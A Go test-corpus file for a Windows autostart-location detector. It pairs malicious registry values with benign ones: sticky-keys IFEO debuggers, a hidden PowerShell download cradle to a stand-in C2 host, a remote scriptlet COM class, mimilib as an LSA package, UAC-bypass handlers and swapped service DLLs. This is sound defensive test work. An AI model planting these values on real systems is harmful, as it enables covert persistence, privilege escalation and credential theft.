package main

// The autostart points beyond the Run family (issue 10): per location, a
// malicious value as the public technique descriptions write it (MITRE
// ATT&CK T1546/T1547 pages, Atomic Red Team tests of the same id) and the
// benign values Windows and common software put there. Locations under
// flood control (services, per-user COM, App Paths) give no row for their
// benign items: those are stored, and TestCorpus's "nothing unexplained"
// check proves they stay out.

func addASEPCorpus(c *corpusFile) {
	const (
		ifeoKey = hklm + ntcvRel + `\Image File Execution Options`
		spe     = hklm + ntcvRel + `\SilentProcessExit`
		active  = hklm + `\Microsoft\Active Setup\Installed Components`
		u1Cls   = u1 + `\Classes`
		u2Cls   = u2 + `\Classes`
		la      = `C:\Users\alice\AppData`
	)
	// T1546.008 / Atomic T1546.008 test 1: sticky keys through IFEO.
	c.add(bad(ifeoKey+`\sethc.exe`, sz("Debugger", `C:\Windows\System32\cmd.exe`), "ifeo_debugger", "ifeo_sethc_cmd", "strong_location"))
	c.add(bad(hklm+`\WOW6432Node`+ntcvRel+`\Image File Execution Options\utilman.exe`, sz("Debugger", `C:\Windows\System32\cmd.exe`), "ifeo_debugger_wow64", "ifeo_utilman_wow64", "strong_location"))
	// Benign: Process Explorer "Replace Task Manager".
	c.add(good(ifeoKey+`\taskmgr.exe`, sz("Debugger", `"C:\Program Files\SysinternalsSuite\procexp64.exe"`), "ifeo_debugger", "procexp_replaces_taskmgr"))
	// T1546.012 / Atomic T1546.012 test 2: SilentProcessExit monitor.
	c.add(bad(spe+`\notepad.exe`, sz("MonitorProcess", `C:\Windows\System32\cmd.exe /c C:\Users\Public\m.exe`), "silent_process_exit", "silent_process_exit_monitor", "strong_location"))
	// T1546.010 / Atomic T1546.010: AppInit_DLLs.
	c.add(bad(hklm+ntcvRel+`\Windows`, sz("AppInit_DLLs", `C:\Users\Public\T1546.010.dll`), "appinit_dlls", "appinit_dlls", "default_changed"))
	c.add(good(hklm+`\WOW6432Node`+ntcvRel+`\Windows`, sz("AppInit_DLLs", ``), "appinit_dlls_wow64", "appinit_dlls_empty"))
	// T1547.004: Winlogon helpers Windows leaves unset.
	c.add(bad(mWinlogon, sz("Taskman", `C:\ProgramData\tm.exe`), "winlogon_taskman", "winlogon_taskman", "default_changed"))
	// T1547.014 / Atomic T1547.014: Active Setup StubPath.
	c.add(bad(active+`\{C9E9A340-D1F1-11D0-821E-444553540601}`, sz("StubPath", `C:\Users\Public\stub.exe`), "active_setup", "active_setup_stubpath", "staging_folder_image"))
	c.add(good(active+`\{8A69D345-D564-463c-AFF1-A69D9E530F96}`, sz("StubPath", `"C:\Program Files\Google\Chrome\Application\120.0.6099.130\Installer\chrmstp.exe" --configure-user-settings --verbose-logging --system-level`), "active_setup", "chrome_active_setup"))
	c.add(good(active+`\{89820200-ECBD-11cf-8B85-00AA005B4340}`, expandSZ("StubPath", `%SystemRoot%\system32\ie4uinit.exe -UserConfig`), "active_setup", "windows_ie4uinit"))
	c.add(good(active+`\{22d6f312-b0f6-11d0-94ab-0080c74c7e95}`, expandSZ("StubPath", `%SystemRoot%\system32\unregmp2.exe /FirstLogon`), "active_setup", "windows_media_player"))
	// Command Processor AutoRun (T1546 "Command Processor AutoRun").
	c.add(bad(u1+`\Microsoft\Command Processor`, sz("AutoRun", `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/c')"`), "cmd_autorun", "cmd_autorun_cradle", "download_cradle"))
	// T1546.007 / Atomic T1546.007: a netsh helper DLL.
	c.add(bad(hklm+`\Microsoft\NetSh`, sz("AtomicHelper", `C:\Users\Public\NetshHelper.dll`), "netsh_helpers", "netsh_helper_dll", "default_changed"))
	c.add(good(hklm+`\Microsoft\NetSh`, sz("ifmon", `ifmon.dll`), "netsh_helpers", "netsh_ifmon"))
	// T1137.002 / Atomic T1137.002: Office test.
	c.add(bad(u1+`\Microsoft\Office test\Special\Perf`, sz("", la+`\Local\Temp\perf.dll`), "office_test", "office_test_perf", "strong_location"))
	// T1546.011 / Atomic T1546.011: a custom shim database.
	c.add(bad(hklm+ntcvRel+`\AppCompatFlags\InstalledSDB\{4f6e7ca0-4e71-4e0c-9d1b-0f1d2a1c9b11}`, sz("DatabasePath", `C:\Windows\AppPatch\Custom\{4f6e7ca0-4e71-4e0c-9d1b-0f1d2a1c9b11}.sdb`), "shim_database", "shim_database", "strong_location"))
	// T1548.002 fodhelper: a per-user ms-settings handler (both values).
	c.add(bad(u2Cls+`\ms-settings\shell\open\command`, sz("", `cmd.exe /c start C:\Users\Public\x.exe`), "user_shell_command", "fodhelper_ms_settings", "strong_location"))
	c.add(bad(u2Cls+`\ms-settings\shell\open\command`, sz("DelegateExecute", ``), "user_shell_command", "fodhelper_delegate_execute", "strong_location"))
	// T1548.002 eventvwr: mscfile.
	c.add(bad(u1Cls+`\mscfile\shell\open\command`, sz("", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -nop`), "user_shell_command", "eventvwr_mscfile", "strong_location"))
	// Benign: Zoom's per-user URL handler.
	c.add(good(u1Cls+`\zoommtg\shell\open\command`, sz("", `"`+la+`\Roaming\Zoom\bin\Zoom.exe" "--url=%1"`), "user_shell_command", "zoom_url_handler"))
	// T1546.015 / Atomic T1546.015: a per-user InprocServer32 in %TEMP%
	// for CAccPropServicesClass, which Windows (and Wine) register.
	c.store(hklm+`\Classes\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\InProcServer32`, expandSZ("", `%SystemRoot%\System32\oleacc.dll`))
	c.add(bad(u2Cls+`\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\InprocServer32`, sz("", `C:\Users\bob\AppData\Local\Temp\AtomicTest.dll`), "user_com_inproc", "com_hijack_inproc", "staging_folder_image", "shadowed_machine_clsid"))
	// T1546.015 as APT28/Turla use it: a per-user class overriding one the
	// machine registers (MMDeviceEnumerator), its DLL in the profile.
	c.store(hklm+`\Classes\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32`, expandSZ("", `%SystemRoot%\System32\MMDevApi.dll`))
	c.add(bad(u1Cls+`\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32`, sz("", la+`\Roaming\Microsoft\mmdevapi.dll`), "user_com_inproc", "com_hijack_shadowing_machine_class", "shadowed_machine_clsid"))
	// Benign, flood control: OneDrive's per-user shell extension gives no row.
	c.store(u1Cls+`\CLSID\{CB3D0F55-BC2C-4C1A-85ED-23ED75B5106B}\InprocServer32`, sz("", la+`\Local\Microsoft\OneDrive\23.246.1127.0002\amd64\FileSyncShell64.dll`))
	// App Paths: a hijacked entry, and Chrome's (no row).
	c.add(bad(hklm+cvRel+`\App Paths\wordpad.exe`, sz("", `C:\Users\Public\wordpad.exe`), "app_paths", "app_paths_hijack", "staging_folder_image"))
	c.store(hklm+cvRel+`\App Paths\chrome.exe`, sz("", `"C:\Program Files\Google\Chrome\Application\chrome.exe"`))
	// T1547.001: the user's Startup folder redirected; Windows' own.
	c.add(bad(u2CV+`\Explorer\User Shell Folders`, expandSZ("Startup", `C:\Users\Public\Startup`), "startup_folder", "startup_folder_redirect", "default_changed"))
	c.add(good(u1CV+`\Explorer\User Shell Folders`, expandSZ("Startup", `%USERPROFILE%\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`), "startup_folder", "startup_folder_default"))
	c.add(good(u1CV+`\Explorer\Shell Folders`, sz("Startup", `C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`), "startup_folder_shell", "shell_folders_default"))
	// T1037.001 / Atomic T1037.001: logon script.
	c.add(bad(`HKEY_USERS\`+sid1+`\Environment`, sz("UserInitMprLogonScript", la+`\Local\Temp\logon.bat`), "logon_script", "userinitmprlogonscript", "staging_folder_image"))
	// T1546.002 / Atomic T1546.002: screensaver.
	c.add(bad(`HKEY_USERS\`+sid2+`\Control Panel\Desktop`, sz("SCRNSAVE.EXE", `C:\Users\bob\AppData\Local\Temp\evil.scr`), "screensaver", "screensaver_temp", "default_changed"))
	c.add(good(`HKEY_USERS\`+sid1+`\Control Panel\Desktop`, sz("SCRNSAVE.EXE", `C:\Windows\system32\scrnsave.scr`), "screensaver", "screensaver_default"))
	addCLSIDCorpus(c)
	// T1546.012 / Atomic T1546.012 test 2: GlobalFlag 512 (a DWORD) arms
	// notepad's SilentProcessExit monitor above; a developer's page heap
	// flag (gflags /p) arms nothing and gives no row.
	c.store(spe+`\notepad.exe`, dword("ReportingMode", 1))
	c.add(bad(ifeoKey+`\notepad.exe`, dword("GlobalFlag", 0x200), "ifeo_global_flag", "ifeo_globalflag_silent_process_exit", "strong_location"))
	c.store(ifeoKey+`\devapp.exe`, dword("GlobalFlag", 0x02000000))
	// T1547.001 (ATT&CK's example; Atomic T1547.001 test 2): a DLL that
	// RunOnceEx loads through Depend.
	c.add(bad(mRunOnceEx+`\0001\Depend`, sz("1", `C:\Users\Public\messageBox64.dll`), "run_once_ex_depend", "run_once_ex_depend_dll", "staging_folder_image"))
	// T1546.001: the machine's handlers. Windows' own give no row (flood
	// control); a changed exefile and txtfile handler do.
	for _, class := range []string{"exefile", "batfile", "cmdfile", "piffile"} {
		c.store(hklm+`\Classes\`+class+`\shell\open\command`, sz("", `"%1" %*`))
	}
	c.store(hklm+`\Classes\mscfile\shell\open\command`, expandSZ("", `%SystemRoot%\system32\mmc.exe "%1" %*`))
	c.store(hklm+`\Classes\regfile\shell\open\command`, sz("", `regedit.exe "%1"`))
	c.store(hklm+`\Classes\htafile\shell\open\command`, sz("", `C:\Windows\SysWOW64\mshta.exe "%1" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}%U{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5} %*`))
	c.store(hklm+`\Classes\Folder\shell\open\command`, expandSZ("", `%SystemRoot%\Explorer.exe`))
	c.store(hklm+`\Classes\Folder\shell\open\command`, sz("DelegateExecute", `{11dbb47c-a525-400b-9e80-a54615a090c0}`))
	c.store(hklm+`\Classes\ms-settings\shell\open\command`, sz("DelegateExecute", `{4ed3a719-cea8-4bd9-910d-e252f997afc2}`))
	c.store(hklm+`\Classes\VLC.mp4\shell\open\command`, sz("", `"C:\Program Files\VideoLAN\VLC\vlc.exe" --started-from-file "%1"`))
	c.add(bad(hklm+`\Classes\comfile\shell\open\command`, sz("", `"C:\ProgramData\svchost.exe" "%1" %*`), "machine_shell_command", "machine_comfile_hijack", "default_changed"))
	c.add(bad(hklm+`\Classes\txtfile\shell\open\command`, expandSZ("", `C:\Users\Public\notepad.exe %1`), "machine_shell_command", "machine_txtfile_hijack", "default_changed", "staging_folder_image"))
}

// addCLSIDCorpus: the locations whose value names a COM class, scored on
// the class's InprocServer32 (the user's classes first, then the
// machine's).
func addCLSIDCorpus(c *corpusFile) {
	const (
		ssodl    = hklm + cvRel + `\ShellServiceObjectDelayLoad`
		overlays = hklm + cvRel + `\Explorer\ShellIconOverlayIdentifiers`
		mCLSID   = hklm + `\Classes\CLSID\`
		u2Cls    = u2 + `\Classes\CLSID\`
		u1Cls    = u1 + `\Classes\CLSID\`
		evil     = "{6C3F7A21-9E4B-4D2A-8F1C-3B5D7E9A0C12}"
		evilUser = "{2B8E4F60-7A1D-4C3E-9B5F-0D6A8C2E4F71}"
	)
	// Windows' own SSODL objects (XP-7; HijackThis O21 safe list).
	c.add(good(ssodl, sz("WebCheck", "{E6FB5E20-DE35-11CF-9C87-00AA005127ED}"), "shell_service_object_delay_load", "windows_ssodl_webcheck"))
	c.store(mCLSID+`{E6FB5E20-DE35-11CF-9C87-00AA005127ED}\InProcServer32`, expandSZ("", `%SystemRoot%\System32\webcheck.dll`))
	c.add(good(ssodl, sz("SysTray", "{35CEC8A3-2BE6-11D2-8773-92E220524153}"), "shell_service_object_delay_load", "windows_ssodl_systray"))
	c.store(mCLSID+`{35CEC8A3-2BE6-11D2-8773-92E220524153}\InProcServer32`, expandSZ("", `%SystemRoot%\System32\stobject.dll`))
	// An SSODL object of the attacker's (Autoruns Explorer tab; T1546.015):
	// the value names a class registered for the occasion.
	c.add(bad(ssodl, sz("UpdateCheck", evil), "shell_service_object_delay_load", "ssodl_added_class", "default_changed", "staging_folder_image"))
	c.store(mCLSID+evil+`\InprocServer32`, sz("", `C:\ProgramData\updchk.dll`))
	// Per user: the class in the user's own classes, which is itself a
	// per-user COM server in %APPDATA%.
	c.add(bad(u2CV+`\ShellServiceObjectDelayLoad`, sz("Sync", evilUser), "shell_service_object_delay_load", "ssodl_user_class", "default_changed", "staging_folder_image"))
	c.add(bad(u2Cls+evilUser+`\InprocServer32`, sz("", `C:\Users\bob\AppData\Roaming\sync.dll`), "user_com_inproc", "com_user_class_in_appdata", "staging_folder_image"))
	// Overlay identifiers OneDrive, Dropbox and TortoiseSVN/Git register
	// (names start with blanks to sort first), and one of the attacker's.
	for _, o := range []struct{ name, clsid, dll, family string }{
		{"   OneDrive1", "{BBACC218-34EA-4666-9D7A-C78F2274A524}", `C:\Program Files\Microsoft OneDrive\23.246.1127.0002\FileSyncShell64.dll`, "onedrive_overlay"},
		{"   DropboxExt01", "{FB314ED9-A251-47B7-93E1-CDD82E34AF8B}", `C:\Program Files (x86)\Dropbox\Client\DropboxExt64.dll`, "dropbox_overlay"},
		{"  Tortoise1Normal", "{C5994560-53D9-4125-87C9-F193FC689CB2}", `C:\Program Files\Common Files\TortoiseOverlays\TortoiseOverlays.dll`, "tortoise_overlay"},
	} {
		c.add(good(overlays+`\`+o.name, sz("", o.clsid), "shell_icon_overlay", o.family))
		c.store(mCLSID+o.clsid+`\InprocServer32`, sz("", o.dll))
	}
	c.add(bad(overlays+`\    SyncStatus`, sz("", "{9D1E5C34-2F7B-4A86-B3C9-5E0F1A2D4B68}"), "shell_icon_overlay", "overlay_handler_public_dll", "staging_folder_image"))
	c.store(mCLSID+`{9D1E5C34-2F7B-4A86-B3C9-5E0F1A2D4B68}\InprocServer32`, sz("", `C:\Users\Public\Libraries\ovl.dll`))
	// A per-user OneDrive's overlay, its class in the user's classes (a
	// benign per-user COM server: no row of its own).
	c.add(good(u1CV+`\Explorer\ShellIconOverlayIdentifiers\ OneDrive2`, sz("", "{5AB7172C-9C11-405C-8DD5-AF20F3606282}"), "shell_icon_overlay", "onedrive_user_overlay"))
	c.store(u1Cls+`{5AB7172C-9C11-405C-8DD5-AF20F3606282}\InprocServer32`, sz("", `C:\Users\alice\AppData\Local\Microsoft\OneDrive\23.246.1127.0002\amd64\FileSyncShell64.dll`))
	// T1546.015 TreatAs (bohops): alice's CAccPropServicesClass emulated by
	// a class whose server sits in %TEMP%.
	c.add(bad(u1Cls+`{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\TreatAs`, sz("", "{7E2C9A14-5B3D-4F68-A1C7-9D0B2E4F6A83}"), "user_com_treatas", "com_treatas_temp", "shadowed_machine_clsid", "staging_folder_image"))
	c.store(mCLSID+`{7E2C9A14-5B3D-4F68-A1C7-9D0B2E4F6A83}\InprocServer32`, sz("", `C:\Users\alice\AppData\Local\Temp\treat.dll`))
	// T1546.015 ScriptletURL: a class that runs a remote scriptlet.
	c.add(bad(u2Cls+`{3F9A0B27-6C1E-4D5B-8A2F-7E4C1D9B0A36}\ScriptletURL`, sz("", `http://c2.example.invalid/s.sct`), "user_com_scriptlet", "com_scriptlet_url", "strong_location"))
}

// buildASEPSystem is a SYSTEM export (CurrentControlSet, as regedit on a
// live machine writes it): the Session Manager, LSA, print, time provider
// and service locations, malicious values from the ATT&CK/Atomic pages
// and Windows' own defaults. Services are under flood control: Windows'
// own give no row.
func buildASEPSystem() *corpusFile {
	const (
		ccs     = `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet`
		session = ccs + `\Control\Session Manager`
		lsa     = ccs + `\Control\Lsa`
		svc     = ccs + `\Services`
	)
	c := newCorpusFile("asep_system.reg")
	c.store(`HKEY_LOCAL_MACHINE\SYSTEM\Select`, dword("Current", 1))
	// T1547.001 BootExecute: Windows' autochk, then one appended.
	c.add(bad(session, multiSZ("BootExecute", "autocheck autochk *", `C:\Windows\System32\bootkit.exe`), "boot_execute", "boot_execute_appended", "default_changed"))
	c.add(good(session, multiSZ("SetupExecute"), "setup_execute", "setup_execute_empty"))
	// T1547.005 / Atomic T1547.005: mimilib as a security package.
	c.add(bad(lsa, multiSZ("Security Packages", "kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u", "mimilib"), "lsa_security_packages", "lsa_ssp_mimilib", "default_changed"))
	c.add(good(lsa+`\OSConfig`, multiSZ("Security Packages", "kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u", "cloudap"), "lsa_osconfig_security_packages", "lsa_osconfig_default"))
	// T1556.002 / Atomic T1556.002: a password filter.
	c.add(bad(lsa, multiSZ("Notification Packages", "scecli", "AtomicRedTeamPWFilter"), "lsa_notification_packages", "lsa_password_filter", "default_changed"))
	// T1547.002 / Atomic T1547.002: an authentication package.
	c.add(good(lsa, multiSZ("Authentication Packages", "msv1_0"), "lsa_authentication_packages", "lsa_auth_default"))
	// T1547.010 / Atomic T1547.010: a port monitor; Windows' own.
	c.add(bad(ccs+`\Control\Print\Monitors\AtomicRedTeam`, sz("Driver", `C:\Users\Public\AtomicRedTeam.dll`), "print_monitors", "port_monitor_dll", "default_changed"))
	c.add(good(ccs+`\Control\Print\Monitors\Local Port`, sz("Driver", `localspl.dll`), "print_monitors", "print_monitor_local_port"))
	// Its key name holds a "/": one key, not two (registry.ParsePath).
	c.add(good(ccs+`\Control\Print\Monitors\Standard TCP/IP Port`, sz("Driver", `tcpmon.dll`), "print_monitors", "print_monitor_standard_tcpip"))
	// T1547.003 / Atomic T1547.003: a time provider.
	c.add(bad(svc+`\W32Time\TimeProviders\AtomicTime`, sz("DllName", `C:\Users\Public\AtomicTest.dll`), "time_providers", "time_provider_dll", "default_changed"))
	c.add(good(svc+`\W32Time\TimeProviders\NtpClient`, expandSZ("DllName", `%systemroot%\system32\w32time.dll`), "time_providers", "time_provider_ntpclient"))
	// T1543.003 / Atomic T1543.003: a service in a world-writable folder,
	// and a svchost ServiceDll swapped; Windows' own give no row.
	c.add(bad(svc+`\WinSvcUpdate`, expandSZ("ImagePath", `C:\Users\Public\svcupd.exe`), "service_image_path", "service_public_binary", "staging_folder_image"))
	c.add(bad(svc+`\IKEEXT\Parameters`, expandSZ("ServiceDll", `C:\Users\Public\wlbsctrl.dll`), "service_dll", "service_dll_swapped", "staging_folder_image"))
	c.store(svc+`\Spooler`, expandSZ("ImagePath", `%SystemRoot%\System32\spoolsv.exe`))
	c.store(svc+`\W32Time`, expandSZ("ImagePath", `%SystemRoot%\system32\svchost.exe -k LocalService`))
	c.store(svc+`\W32Time\Parameters`, expandSZ("ServiceDll", `%systemroot%\system32\w32time.dll`))
	c.store(svc+`\Tcpip\Parameters`, sz("Hostname", `HOST1`))
	// Terminal Services: the InitialProgram Windows leaves empty.
	c.add(good(ccs+`\Control\Terminal Server\WinStations\RDP-Tcp`, sz("InitialProgram", ``), "terminal_server_initial_program", "rdp_initial_program_empty"))
	return c
}
